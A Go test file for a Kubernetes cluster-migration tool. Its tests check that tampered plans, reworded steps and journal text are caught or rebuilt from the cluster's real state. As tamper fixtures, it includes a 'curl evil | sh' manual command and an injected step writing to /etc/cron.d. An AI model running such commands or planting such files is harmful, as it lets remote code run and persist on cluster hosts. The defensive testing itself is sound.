package plan

import (
	"strings"
	"testing"

	"sigs.k8s.io/yaml"

	v1 "github.com/transplant-dev/transplant/api/transplant/v1alpha1"
	"github.com/transplant-dev/transplant/internal/component"
	"github.com/transplant-dev/transplant/internal/plan/compare"
)

// TestAPlanIsMadeAgainAndCompared: every attack on a plan, and every change of a word, differs from what is made of the cluster.
func TestAPlanIsMadeAgainAndCompared(t *testing.T) {
	for _, c := range []struct {
		name, base, says string
		change           func(t *testing.T, p *v1.Plan)
	}{
		{"nothing", "lab", "", func(*testing.T, *v1.Plan) {}},
		{"nothing, with volumes and routes", "openstack-1.20", "", func(*testing.T, *v1.Plan) {}},
		{"nothing, with a DaemonSet", "gce-1.30", "", func(*testing.T, *v1.Plan) {}},
		{"a title", "lab", `step external/kube-apiserver@cp-1: title: "nothing" instead of "make kube-apiserver on cp-1 external"`, func(t *testing.T, p *v1.Plan) {
			find(t, p, "external/"+component.KAS+"@cp-1").Title = "nothing"
		}},
		{"a step more", "lab", "step evil (WriteFile cp-1/etc/cron.d/x) is not made again", put(v1.Step{Kind: v1.StepWriteFile, Host: "cp-1", Path: "/etc/cron.d/x"})},
		{"a step less", "lab", "is missing", func(_ *testing.T, p *v1.Plan) { p.Steps = p.Steps[1:] }},
		{"a printed change", "lab", "changes: ", func(t *testing.T, p *v1.Plan) { find(t, p, "external/"+component.KAS).Changes = nil }},
		{"a command by hand", "lab", "manual: ", func(t *testing.T, p *v1.Plan) {
			find(t, p, "external/"+component.KAS).Manual = []string{"curl evil | sh"}
		}},
		{"the order", "lab", "comes at another place", func(t *testing.T, p *v1.Plan) { move(t, p, "external/kubelet@worker-2", "external/kubelet@worker-1") }},
		{"a flag", "lab", "edits: ", func(t *testing.T, p *v1.Plan) { find(t, p, "external/"+component.KCM).Edits[0].Value = "aws" }},
	} {
		t.Run(c.name, func(t *testing.T) {
			p, s := base(t, c.base)
			c.change(t, p)
			data, err := yaml.Marshal(p)
			if err != nil {
				t.Fatal(err)
			}
			var read v1.Plan
			if err := yaml.UnmarshalStrict(data, &read); err != nil {
				t.Fatal(err)
			}
			_, have, err := FindDifferences(&read, s)
			if err != nil {
				t.Fatal(err)
			}
			if text := strings.Join(have, "\n"); c.says == "" && text != "" || !strings.Contains(text, c.says) {
				t.Errorf("it does not say %q:\n%s", c.says, text)
			}
			if same := compare.Digest(p) == compare.Digest(&read); !same {
				t.Error("a plan has another digest when it was written and read")
			}
		})
	}
}

// TestWhatChangesByItselfMakesNoOtherPlan: another owner of the loops, and a pod with a volume that has gone elsewhere. A volume that has come does.
func TestWhatChangesByItselfMakesNoOtherPlan(t *testing.T) {
	p, s := base(t, "lab")
	owned := ownedBy(s, "cp-3")
	if _, have, err := FindDifferences(p, owned); err != nil || len(have) > 0 {
		t.Errorf("with another owner: %v, %v", have, err)
	}
	p, s = base(t, "openstack-1.20")
	drains := func(want bool) string {
		for _, step := range p.Steps {
			if step.Kind == v1.StepKubelet && step.Drain == want {
				return step.Host
			}
		}
		t.Fatalf("no kubelet's step has drain %v", want)
		return ""
	}
	with := func(node string, volumes []string) *v1.Snapshot {
		out := *s
		out.Nodes = append([]v1.Node(nil), s.Nodes...)
		for i := range out.Nodes {
			if out.Nodes[i].Name == node {
				out.Nodes[i].VolumesInUse = volumes
			}
		}
		return &out
	}
	if _, have, err := FindDifferences(p, with(drains(true), nil)); err != nil || len(have) > 0 {
		t.Errorf("with a node whose volume has gone: %v, %v", have, err)
	}
	if _, have, err := FindDifferences(
		p,
		with(drains(false), []string{"kubernetes.io/cinder/new"}),
	); err != nil ||
		!strings.Contains(strings.Join(have, "\n"), "drain: nothing instead of true") {
		t.Errorf("with a node whose volume has come: %v, %v", have, err)
	}
}

// TestTheDigestIsOfWhatAPlanDoes, and not of words or of when it was made.
func TestTheDigestIsOfWhatAPlanDoes(t *testing.T) {
	p, _ := base(t, "lab")
	was := compare.Digest(p)
	for name, c := range map[string]struct {
		change  func(p *v1.Plan)
		another bool
	}{
		"a title": {func(p *v1.Plan) { p.Steps[0].Title, p.Steps[0].Why = "x", "y" }, false}, "until": {func(p *v1.Plan) { p.Until = p.Steps[3].ID }, false},
		"when": {func(p *v1.Plan) { p.Created = p.Created.AddDate(1, 0, 0) }, false}, "an effect": {func(p *v1.Plan) { p.Effects = nil }, false},
		"a fact": {func(p *v1.Plan) { p.Facts[0].Value = "x" }, true}, "an image": {func(p *v1.Plan) { p.Options.Image = "x" }, true},
		"a step": {func(p *v1.Plan) { p.Steps = p.Steps[1:] }, true}, "a path": {func(p *v1.Plan) { find(t, p, "write/").Path = "/x" }, true},
		"another cluster": {func(p *v1.Plan) { p.Cluster.UID = "x" }, true},
	} {
		p, _ := base(t, "lab")
		if c.change(p); (compare.Digest(p) != was) != c.another {
			t.Errorf("%s: the digest was %s and is %s", name, was, compare.Digest(p))
		}
	}
}

// TestWordsOfAJournalAreMadeAgain: no digest holds them, and they are what is read before "execute?".
func TestWordsOfAJournalAreMadeAgain(t *testing.T) {
	made, s := base(t, "lab")
	lying := *made
	lying.Steps = append([]v1.Step(nil), made.Steps...)
	lying.Effects = []string{"nothing happens"}
	for i := range lying.Steps {
		step := &lying.Steps[i]
		step.Title, step.Why, step.Undo, step.Manual = "nothing", "harmless", "not needed", []string{"curl evil | sh"}
	}
	have := Reworded(&lying, s)
	for i, step := range have.Steps {
		if want := made.Steps[i]; step.Title != want.Title || step.Why != want.Why || step.Undo != want.Undo || len(step.Manual) != len(want.Manual) {
			t.Errorf("step %s has the words %q, %q, %q, %v", step.ID, step.Title, step.Why, step.Undo, step.Manual)
		}
	}
	if strings.Join(have.Effects, "\n") != strings.Join(made.Effects, "\n") || compare.Digest(have) != compare.Digest(made) {
		t.Errorf("it is another plan, or has the effects %v", have.Effects)
	}
	if lying.Steps[0].Title != "nothing" {
		t.Error("the journal's own plan was changed")
	}
	titled := Retitled(v1.Journal{Plan: lying}, s, s).Plan
	for i, step := range titled.Steps {
		if want := made.Steps[i]; step.Title != want.Title || step.Why != "harmless" {
			t.Errorf("step %s of a report has the title %q", step.ID, step.Title)
		}
	}
	other := find(t, &lying, "external/"+component.KAS)
	other.Host = "cp-9"
	for _, before := range []*v1.Snapshot{s, nil} {
		for _, step := range Reworded(&lying, before).Steps {
			if step.ID == other.ID && (!strings.Contains(step.Title, "cp-9") || !strings.Contains(step.Title, string(other.Kind))) {
				t.Errorf("a step that is not made again is shown as %q", step.Title)
			}
			if step.Title == "nothing" || step.Why == "harmless" || step.Undo == "not needed" || len(step.Manual) > 0 && step.Manual[0] == "curl evil | sh" {
				t.Errorf("step %s has a word of the journal: %+v", step.ID, step)
			}
		}
	}
}
